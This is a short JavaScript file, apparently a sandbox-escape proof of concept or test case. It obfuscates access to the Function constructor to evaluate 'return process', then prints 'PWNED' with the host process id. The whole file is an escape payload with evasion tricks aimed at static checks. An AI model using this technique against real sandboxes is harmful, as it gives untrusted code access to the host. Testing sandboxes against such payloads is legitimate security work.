'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
class K { [Symbol.iterator]() { let n = 0; return { next: () => ({ value: t, done: n++ > 0 }) }; } }
const o = Date.now() > 1 ? Array.from(new K())[0] : {};
console.log('PWNED', o.go(fn)('return process')().pid);
